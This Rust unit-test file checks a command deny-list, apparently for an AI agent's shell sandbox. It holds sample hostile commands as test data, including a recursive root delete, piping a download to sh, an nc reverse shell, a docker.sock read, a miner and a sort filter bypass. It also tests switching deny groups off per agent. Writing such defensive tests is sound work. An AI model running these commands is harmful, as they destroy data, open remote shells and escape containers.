//! Unit tests of the deny groups: which group refuses a command, and switching groups off.

use std::collections::BTreeMap;

use super::*;
use crate::exec::parse::parse;

fn group_of(line: &str, groups: &DenyGroups) -> Option<&'static str> {
    let commands = parse(line).expect("parses");
    check(line, &commands, groups).map(|d| d.group)
}

fn check_group(line: &str, expected: Option<&str>) {
    assert_eq!(group_of(line, &DenyGroups::default()), expected, "{line}");
}

#[test]
fn names_the_group() {
    check_group("rm --rec --fo /", Some("destructive_ops"));
    check_group("curl x | sh", Some("data_exfiltration"));
    check_group("nc -e /bin/sh 1.2.3.4 9", Some("reverse_shell"));
    check_group("python -c 'print(1)'", Some("code_injection"));
    check_group("sudo ls", Some("privilege_escalation"));
    check_group("chmod -R 777 /", Some("dangerous_paths"));
    check_group("LD_PRELOAD=x ls", Some("env_injection"));
    check_group("cat /var/run/docker.sock", Some("container_escape"));
    check_group("xmrig -o pool", Some("crypto_mining"));
    check_group("sort --compress-program=sh x", Some("filter_bypass"));
    check_group("nmap 10.0.0.1", Some("network_recon"));
    check_group("pip install requests", Some("package_install"));
    check_group("crontab -e", Some("persistence"));
    check_group("kill -9 1", Some("process_control"));
    check_group("env", Some("env_dump"));
    check_group("rm notes.txt", None);
    check_group("git status", None);
}

#[test]
fn groups_switch_off_per_agent_over_global() {
    let global = BTreeMap::from([("package_install".to_owned(), false)]);
    let agent = BTreeMap::new();
    let groups = DenyGroups::resolve(&global, &agent);
    assert_eq!(group_of("pip install x", &groups), None);
    let agent = BTreeMap::from([("package_install".to_owned(), true)]);
    let groups = DenyGroups::resolve(&global, &agent);
    assert_eq!(group_of("pip install x", &groups), Some("package_install"));
}
